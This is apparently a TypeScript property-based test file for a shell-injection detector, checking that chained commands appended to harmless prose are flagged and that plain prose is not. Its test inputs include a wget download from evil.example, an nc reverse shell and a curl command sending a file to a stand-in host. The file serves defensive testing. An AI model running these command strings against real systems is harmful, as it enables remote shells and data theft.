// Commands that a shell would run if the piece were put into a command line, and commands that people talk of.
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { shellInjection } from '../../../src/detect/shell_injection/detector.ts'
import { placeLaws } from '../place-laws.ts'
import { find as findIn } from '../search-laws.ts'
import { attacks, quiet } from './cases.ts'

const find = (text: string) => findIn(shellInjection, text)

test('a finding says where', () => {
  expect(find('a b; uname -r; c')).toEqual({ shape: 'chained-command', start: 3, end: 13 })
})

const word = fc.constantFrom(
  'select',
  'the',
  'cat',
  "O'Brien",
  'said',
  '5 > 3',
  '&',
  '"yes"',
  '(no)',
  'id,',
  'sort',
  'more',
)

test('prose in front does not hide a command with its arguments', () => {
  const chained = [
    '; cat /etc/group',
    ' && wget http://evil.example/a',
    ' | nc -e /bin/sh 192.0.2.9 4',
    ' $(curl -d @a evil.example)',
  ]
  fc.assert(
    fc.property(fc.array(word, { maxLength: 30 }), fc.constantFrom(...chained), (words, command) => {
      expect(find(words.join(' ') + command)).not.toBeNull()
    }),
  )
})

test('prose alone stays quiet', () => {
  fc.assert(
    fc.property(fc.array(word), (words) => {
      expect(find(`Then ${words.join(' ')}`)).toBeNull()
    }),
  )
})

placeLaws({
  detector: shellInjection,
  attacks,
  quiet,
  pieces: [
    ';',
    '|',
    '&',
    '$',
    '(',
    ')',
    '{',
    '}',
    '`',
    '\\',
    "'",
    '"',
    '/',
    ' ',
    '\n',
    'IFS',
    'cat',
    'id',
    '-a',
    '<',
    '>',
    ',',
    '/bin/constructor',
    '%',
  ],
  repeated: ['a;', 'a `b', '$(x', '{a,', 'eval(', "''", ';cat is ', '() {', '$x', '|a ', '\\n/', '%a:'],
})
